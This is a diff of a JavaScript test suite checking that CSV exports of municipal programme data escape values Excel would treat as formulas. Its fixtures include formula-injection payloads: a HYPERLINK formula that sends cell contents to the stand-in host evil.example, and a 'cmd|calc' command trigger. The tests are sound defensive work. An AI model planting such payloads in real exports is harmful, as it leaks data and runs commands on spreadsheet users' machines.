@@ -19,7 +19,13 @@ describe('CSV exports that Excel cannot turn into formulas', () => {
     const programme = { commune_insee: commune, ap_amount_eur: 100_000, start_date: '2024-01-01' };
     await db('programmes').insert([
       // expected 39 days before the planned end (28 days of February + 11): a genuine negative slippage
-      { ...programme, programme_id: 'P1', name: '=HYPERLINK("http://evil.example/?x="&A1;"Voir")', planned_end_date: '2025-03-12', expected_end_date: '2025-02-01' },
+      {
+        ...programme,
+        programme_id: 'P1',
+        name: '=HYPERLINK("http://evil.example/?x="&A1;"Voir")',
+        planned_end_date: '2025-03-12',
+        expected_end_date: '2025-02-01',
+      },
       { ...programme, programme_id: 'P2', name: '+33 6 12 34 56 78', planned_end_date: '2025-06-30' },
       { ...programme, programme_id: 'P3', name: '-2+3', planned_end_date: '2025-06-30' },
       { ...programme, programme_id: 'P4', name: '@SUM(1,2)', planned_end_date: '2025-06-30' },
@@ -55,7 +61,9 @@ describe('CSV exports that Excel cannot turn into formulas', () => {
     expect(byId['P4'][name]).toBe("'@SUM(1,2)");
     expect(byId['P5'][name]).toBe("'\tcmd|calc");
     expect(byId['P6'][name]).toBe('École Jules-Ferry');
-    expect([byId['P1'][days], byId['P1'][months]]).withContext('negative numbers stay numbers').toEqual(['-39', '-1,3']);
+    expect([byId['P1'][days], byId['P1'][months]])
+      .withContext('negative numbers stay numbers')
+      .toEqual(['-39', '-1,3']);
   });
 
   it("keeps a formula typed as a login email as text in the administrator's audit CSV", async () => {
